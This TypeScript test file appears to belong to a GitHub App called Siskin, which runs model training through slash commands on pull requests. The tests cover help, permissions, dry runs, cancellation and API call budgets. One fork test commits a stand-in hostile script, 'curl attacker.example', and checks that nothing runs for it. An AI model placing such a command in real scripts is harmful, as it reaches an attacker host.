import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PullIssue } from '../../sandbox/github/shape/pull.ts';
import type { Repository } from '../../sandbox/github/state.ts';
import { lateArrivals, policy, scores } from './late-arrivals.ts';
import { openScenario, type Scenario } from './scenario.ts';

let scenario: Scenario;
let repository: Repository;
let pull: PullIssue;
beforeAll(async () => {
  scenario = await openScenario();
  // Nothing here is about what a run finds, so that no runner takes one.
  const waiting = { ...lateArrivals, '.github/siskin.yml': policy({ runner: 'nobody' }) };
  repository = await scenario.adopt('commands', waiting);
  pull = await scenario.propose(repository, { branch: 'change', files: { 'scores.csv': scores('bad') } });
  await scenario.rest();
});
afterAll(() => scenario[Symbol.asyncDispose]());

/** Says something, and what came of it: the reactions to it, the replies, and how many runs were requested. */
async function answersTo(body: string, author = 'grace') {
  const runs = scenario.world.github.actions.runsOf(repository).length;
  const replies = scenario.outcome(pull).comments.length;
  const comment = scenario.say(pull, body, author);
  await scenario.rest();
  expect(comment.reactions[0]?.content).toBe('eyes');
  return {
    reactions: comment.reactions.map(({ content }) => content).toSorted(),
    replies: scenario.outcome(pull).comments.slice(replies),
    runs: scenario.world.github.actions.runsOf(repository).length - runs,
  };
}

const latestRun = () => scenario.world.github.actions.runsOf(repository).at(-1)?.attempts[0];
const check = () => scenario.check(pull, 'siskin: late');

describe('everybody', () => {
  it('is helped', async () => {
    const { reactions, replies, runs } = await answersTo('How does this work?\n\n/help', 'rita');

    expect({ reactions, runs }).toEqual({ reactions: ['+1', 'eyes'], runs: 0 });
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain('What `rita` may do here');
    expect(replies[0]).toMatch(/`\/config -m late`[\s\S]*For others — .*`\/train`.*: `write`/);
  });

  it('may ask where things stand', async () => {
    expect(await answersTo('/status', 'rita')).toEqual({ reactions: ['+1', 'eyes'], replies: [], runs: 0 });
  });

  it('is told what a misspelt command may have meant', async () => {
    const { reactions, replies } = await answersTo('/trian');

    expect(reactions).toEqual(['-1', 'eyes']);
    expect(replies[0]).toContain('`/trian` refused: **`unknown-command`**');
    expect(replies[0]).toContain('Did you mean `/train`?');
  });
});

describe('somebody who wonders', () => {
  it('sees the policy that judges here, and where it comes from', async () => {
    const { replies } = await answersTo('/config -m late', 'rita');

    expect(replies[0]).toMatch(/^`late` is judged here: the policy of `main` at `[0-9a-f]{7}`\./);
    expect(replies[0]).toContain('confidence: 0.95');
  });

  it('has a code explained, and is told the nearest when there is none of this name', async () => {
    const known = await answersTo('/explain gate-failed', 'rita');
    const unknown = await answersTo('/explain gate', 'rita');

    expect(known.replies[0]).toContain('It does not hold here now.');
    expect(unknown.reactions).toEqual(['-1', 'eyes']);
    expect(unknown.replies[0]).toContain('Did you mean `/explain gate-failed`?');
  });

  it('is told what keeps Siskin from working here, and that it works once it was mended', async () => {
    const { world } = scenario;
    const before = await answersTo('/doctor');
    const appId = world.registration.app.id;
    world.github.requireCheck({ repository, branch: 'main', context: 'siskin: late', appId });
    const after = await answersTo('/doctor');

    expect(before.replies[0]).toContain('`main` does not require `siskin: late`: a missed gate stops no merge');
    expect(before.replies[0]).toMatch(/🔴.problem \| runners \| .*`nobody`.*: a job waits for one/);
    expect(after.replies[0]).toContain('`main` requires `siskin: late` from');
    for (const fine of ['all that is needed is granted', 'all that is needed is sent', 'it is enabled']) {
      expect(after.replies[0]).toContain(fine);
    }
  });
});

describe('somebody on a phone', () => {
  it('is understood with curly quotes, long dashes and a full stop', async () => {
    const { reactions, replies } = await answersTo('/train —m late, seed=7. —dry-run', 'grace');

    expect(reactions).toEqual(['+1', 'eyes']);
    expect(replies[0]).toMatch(/would, and nothing of it was done:[\s\S]*train `late` on \[`nobody`\] with seed 7/);
  });

  it('is told of all that is wrong in one answer', async () => {
    const { reactions, replies } = await answersTo(
      '/train --modle late\n/evaluate -m lat\n/approve\n/freeze\n/lock x y',
    );

    expect(reactions).toEqual(['-1', 'eyes']);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain('Did you mean `/train --model late`?');
    expect(replies[0]).toContain('Did you mean `/evaluate -m late`?');
    expect(replies[0]).toContain('**`not-permitted`**');
    expect(replies[0]).toContain('takes one environment, found also `y`');
    expect(replies[0]).not.toContain('/approve`');
  });
});

describe('somebody who may only read', () => {
  it.each(['/evaluate', '/train', '/cancel'])('may not %s', async (command) => {
    const { reactions, replies, runs } = await answersTo(command, 'rita');

    expect({ reactions, runs }).toEqual({ reactions: ['-1', 'eyes'], runs: 0 });
    expect(replies[0]).toContain(
      `\`${command}\` refused: **\`not-permitted\`** — it is given to \`write\`, not to rita`,
    );
    expect(latestRun()?.status).not.toBe('completed');
  });
});

describe('somebody who may write', () => {
  it('stops the run, and the check says who did', async () => {
    expect(await answersTo('/cancel')).toEqual({ reactions: ['eyes', 'rocket'], replies: [], runs: 0 });

    expect(latestRun()?.conclusion).toBe('cancelled');
    expect(check()).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
    expect(check().output.title).toBe('Cancelled: by grace');
  });

  it.each(['/evaluate', '/siskin train -m late'])('starts a run with %s', async (command) => {
    await answersTo('/cancel');

    expect(await answersTo(command)).toEqual({ reactions: ['eyes', 'rocket'], replies: [], runs: 1 });
    expect(check().status).toBe('queued');
  });

  it('may look before: a dry run starts nothing, stops nothing and leaves the check alone', async () => {
    const before = check();
    const { reactions, replies, runs } = await answersTo('/train seed=3 --dry-run\n/cancel --dry-run');

    expect({ reactions, runs }).toEqual({ reactions: ['+1', 'eyes'], runs: 0 });
    expect(replies[0]).toMatch(/dispatch 1 run of `siskin\.yml`/);
    expect(replies[0]).toMatch(/cancel run \d+: cancelled by grace/);
    expect(check()).toEqual(before);
    expect(latestRun()?.status).not.toBe('completed');
  });

  it('trains with a seed of their own, which the plan carries and the comment shows', async () => {
    await answersTo('/cancel');
    const { reactions, runs } = await answersTo('/train seed=7');
    const plan = JSON.parse(scenario.world.github.actions.runsOf(repository).at(-1)?.inputs['plan'] ?? '{}');

    expect({ reactions, runs }).toEqual({ reactions: ['eyes', 'rocket'], runs: 1 });
    expect(plan).toMatchObject({ train: [{ model: 'late', seed: 7, trainingKey: null }] });
    expect(scenario.outcome(pull).comments[0]).toContain('**Seed** 7');
  });

  it('looks at the data alone, and the check of the model waits on', async () => {
    const { runs } = await answersTo('/drift');

    expect(runs).toBe(1);
    expect(check().status).toBe('queued');
    await answersTo('/train');
  });

  it('does not start a second run while one waits', async () => {
    expect(await answersTo('/train')).toEqual({ reactions: ['+1', 'eyes'], replies: [], runs: 0 });
  });

  it('starts one by asking for the check again once it has ended', async () => {
    await answersTo('/cancel');
    const before = scenario.world.github.actions.runsOf(repository).length;

    await scenario.request('grace', 'POST', `commands/check-runs/${check().id}/rerequest`);
    await scenario.rest();

    expect(scenario.world.github.actions.runsOf(repository).length).toBe(before + 1);
    expect(check().status).toBe('queued');
  });

  it('is told of a model that there is not', async () => {
    const { replies } = await answersTo('/train -m late-arrival');

    expect(replies[0]).toContain(
      '**`unknown-model`** — the policy has no model `late-arrival`, it has `late`. Did you mean',
    );
  });
});

describe('a pull request that is closed while its run waits', () => {
  it('stops the run, and starts it anew when it is opened again', async () => {
    const { github } = scenario.world;
    const before = github.actions.runsOf(repository).length;

    await github.closePullRequest({ repository, number: pull.number, by: 'grace' });
    await scenario.rest();
    const closed = { run: latestRun()?.conclusion, check: check().conclusion };
    await scenario.request('grace', 'PATCH', `commands/pulls/${pull.number}`, { state: 'open' });
    await scenario.rest();

    expect(closed).toEqual({ run: 'cancelled', check: 'cancelled' });
    expect(github.actions.runsOf(repository).length).toBe(before + 1);
    expect(check().status).toBe('queued');
  });
});

describe('a pull request from a fork', () => {
  it('runs nothing, whoever asks', async () => {
    const { github } = scenario.world;
    const before = github.actions.runsOf(repository).length;
    const fork = await github.fork(repository, 'rita');
    await github.commitFiles({
      repository: fork,
      branch: 'gift',
      message: 'A gift',
      files: { 'train.sh': 'curl attacker.example' },
      author: 'rita',
    });
    const gift = await github.openPullRequest({
      repository,
      author: 'rita',
      title: 'gift',
      head: 'gift',
      headRepository: fork,
    });
    await scenario.rest();
    const asked = scenario.say(gift, '/train');
    await scenario.rest();

    expect(github.actions.runsOf(repository).length).toBe(before);
    expect(scenario.check(gift, 'siskin: late').conclusion).toBe('action_required');
    expect(asked.reactions.map(({ content }) => content).toSorted()).toEqual(['-1', 'eyes']);
    expect(scenario.outcome(gift).comments.at(-1)).toContain('`/train` refused: **`fork`**');
  });
});

describe('the App', () => {
  it('asks GitHub for little: at most ten reads and six writes for any one event', async () => {
    const { github } = scenario.world;
    const spent: Record<string, { readonly reads: number; readonly writes: number }> = {};
    const measure = async (event: string, act: () => Promise<unknown> | unknown) => {
      github.faults.onWebhook = (webhook) => (webhook.event === event.split(' ')[0] ? null : 'hold');
      await act();
      const from = github.calls.length;
      await scenario.rest();
      spent[event] = scenario.callsSince(from);
      github.faults.onWebhook = () => null;
      github.faults.releaseWebhooks();
      await scenario.rest();
    };
    await measure('pull_request opened', async () => {
      pull = await scenario.propose(repository, { branch: 'counted', files: { 'train.sh': 'exit 0\n' } });
    });
    await measure('pull_request synchronize', () =>
      scenario.push(repository, { branch: 'counted', files: { 'train.sh': 'exit 1\n' } }),
    );
    await measure('issue_comment /status', () => scenario.say(pull, '/status'));
    await measure('issue_comment /cancel', () => scenario.say(pull, '/cancel'));
    await measure('issue_comment /train', () => scenario.say(pull, '/train'));
    await measure('push', () => scenario.push(repository, { branch: 'main', files: { 'train.sh': 'exit 2\n' } }));

    const costly = Object.entries(spent).filter(([, { reads, writes }]) => reads > 10 || writes > 6);
    expect(costly).toEqual([]);
    expect(Object.values(spent).every(({ reads }) => reads > 0)).toBe(true);
  });

  it('says nothing that GitHub would not say or take', () => {
    expect(scenario.conformance.violations).toEqual([]);
  });
});
